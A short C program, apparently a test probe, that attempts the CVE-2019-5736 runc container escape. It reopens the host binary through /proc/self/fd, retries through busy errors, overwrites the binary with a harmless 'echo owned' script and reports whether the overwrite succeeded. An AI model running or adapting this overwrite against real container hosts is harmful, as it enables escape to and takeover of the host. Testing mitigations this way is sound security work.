/* Has a descriptor of the binary that started its container, and tries to overwrite it (CVE-2019-5736).
 * Truncation is asked for, so that a read-only mount says no before a running copy of the file does. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%s", argc > 1 ? argv[1] : "-");
    int fd = -1;
    for (int tries = 0; tries < 2000 && fd < 0; tries++) {
        fd = open(path, O_WRONLY | O_TRUNC);
        if (fd < 0 && errno != ETXTBSY)
            break;
        if (fd < 0)
            usleep(1000);
    }
    if (fd < 0) {
        printf("stolen: no: %s\n", strerror(errno));
        return 0;
    }
    dprintf(fd, "#!/bin/sh\necho owned\n");
    printf("stolen: yes\n");
    return 0;
}
